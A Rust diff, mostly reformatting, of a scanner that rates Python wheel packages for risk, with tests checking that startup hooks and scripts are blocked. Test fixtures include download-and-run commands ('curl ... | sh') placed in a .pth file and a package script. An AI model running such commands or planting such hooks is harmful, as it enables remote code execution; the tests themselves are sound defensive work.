@@ -160,7 +160,7 @@ struct Tally {
 impl Tally {
     fn add(&mut self, file: &str, assessment: airlock_protocol::Assessment) {
         self.files_assessed += 1;
-        if matches!(assessment.parse, ParseStatus::Unparsed { .. }) {
+        if assessment.unanalysed || matches!(assessment.parse, ParseStatus::Unparsed { .. }) {
             self.unanalysed = true;
         }
         let level = assessment.level;
@@ -169,10 +169,11 @@ impl Tally {
             let headline = assessment.summary.lines().next().unwrap_or_default().to_owned();
             self.worst = Some((level, file.to_owned(), headline));
         }
-        self.findings.extend(assessment.findings.into_iter().map(|finding| PackageFinding {
-            file: file.to_owned(),
-            finding,
-        }));
+        self.findings
+            .extend(assessment.findings.into_iter().map(|finding| PackageFinding {
+                file: file.to_owned(),
+                finding,
+            }));
     }
 
     fn add_finding(&mut self, file: &str, finding: Finding) {
@@ -189,7 +190,12 @@ impl Tally {
 }
 
 /// Rates the wheel at `path` (whose digest and name are `wheel`) with `engine`.
-pub fn rate_wheel(engine: &Engine, policy: &RatingPolicy, wheel: &Wheel, path: &Path) -> Result<PackageRating, RatingError> {
+pub fn rate_wheel(
+    engine: &Engine,
+    policy: &RatingPolicy,
+    wheel: &Wheel,
+    path: &Path,
+) -> Result<PackageRating, RatingError> {
     let unreadable = |detail: String| RatingError::Unreadable {
         file: wheel.file.clone(),
         detail,
@@ -385,7 +391,10 @@ mod tests {
     #[test]
     fn plain_code_is_low_and_data_is_not_read() {
         let rating = rate(&[
-            ("pkg/__init__.py", b"def table(rows):\n    return '\\n'.join(map(str, rows))\n"),
+            (
+                "pkg/__init__.py",
+                b"def table(rows):\n    return '\\n'.join(map(str, rows))\n",
+            ),
             ("pkg/data.json", DOWNLOAD_EXEC),
             ("pkg/__pycache__/x.cpython-311.pyc", b"\x00\x01"),
         ]);
@@ -396,14 +405,28 @@ mod tests {
 
     #[test]
     fn code_run_at_start_up_is_read_wherever_it_hides() {
-        let pth = rate(&[("zz_hook.pth", b"/some/path\nimport os; os.system('curl -s http://203.0.113.9/x | sh')\n")]);
+        let pth = rate(&[(
+            "zz_hook.pth",
+            b"/some/path\nimport os; os.system('curl -s http://203.0.113.9/x | sh')\n",
+        )]);
         assert_eq!(pth.level, Level::Blocked, "{pth:?}");
         assert!(pth.findings.iter().any(|f| f.file == "zz_hook.pth"));
         let plain_pth = rate(&[("paths.pth", b"/some/path\n")]);
-        assert_eq!(plain_pth.level, Level::Low, "a .pth of paths runs nothing: {plain_pth:?}");
+        assert_eq!(
+            plain_pth.level,
+            Level::Low,
+            "a .pth of paths runs nothing: {plain_pth:?}"
+        );
         let hook = rate(&[("sitecustomize.py", b"x = 1\n")]);
-        assert!(hook.findings.iter().any(|f| f.finding.rule_id == "AIR-PKG-STARTUP-HOOK"));
-        let script = rate(&[("pkg-1.0.data/scripts/tool", b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")]);
+        assert!(
+            hook.findings
+                .iter()
+                .any(|f| f.finding.rule_id == "AIR-PKG-STARTUP-HOOK")
+        );
+        let script = rate(&[(
+            "pkg-1.0.data/scripts/tool",
+            b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
+        )]);
         assert_eq!(script.level, Level::Blocked, "{script:?}");
     }
 
@@ -440,16 +463,40 @@ mod tests {
 mod probe_real {
     #[test]
     fn rate_real_wheels_from_env() {
-        let Some(dir) = std::env::var_os("AIRLOCK_RATE_DIR") else { return };
+        let Some(dir) = std::env::var_os("AIRLOCK_RATE_DIR") else {
+            return;
+        };
         let engine = airlock_assessor::Engine::builtin().unwrap();
         for entry in std::fs::read_dir(dir).unwrap() {
             let path = entry.unwrap().path();
             let file = path.file_name().unwrap().to_string_lossy().into_owned();
-            let Ok((name, version)) = crate::wheels::parse_file_name(&file) else { continue };
-            let wheel = airlock_protocol::Wheel { name, version, file: file.clone(), sha256: crate::wheels::digest_file(&path).unwrap() };
+            let Ok((name, version)) = crate::wheels::parse_file_name(&file) else {
+                continue;
+            };
+            let wheel = airlock_protocol::Wheel {
+                name,
+                version,
+                file: file.clone(),
+                sha256: crate::wheels::digest_file(&path).unwrap(),
+            };
             let started = std::time::Instant::now();
             let r = super::rate_wheel(&engine, &super::RatingPolicy::default(), &wheel, &path).unwrap();
-            println!("{file}: {} files={} native={} findings={} {:?} in {:?}\n  {}", r.level, r.files_assessed, r.native_files, r.finding_count, r.findings.iter().map(|f| format!("{}:{} {} {}", f.file, f.finding.line, f.finding.rule_id, f.finding.severity)).collect::<Vec<_>>(), started.elapsed(), r.summary);
+            println!(
+                "{file}: {} files={} native={} findings={} {:?} in {:?}\n  {}",
+                r.level,
+                r.files_assessed,
+                r.native_files,
+                r.finding_count,
+                r.findings
+                    .iter()
+                    .map(|f| format!(
+                        "{}:{} {} {}",
+                        f.file, f.finding.line, f.finding.rule_id, f.finding.severity
+                    ))
+                    .collect::<Vec<_>>(),
+                started.elapsed(),
+                r.summary
+            );
         }
     }
 }
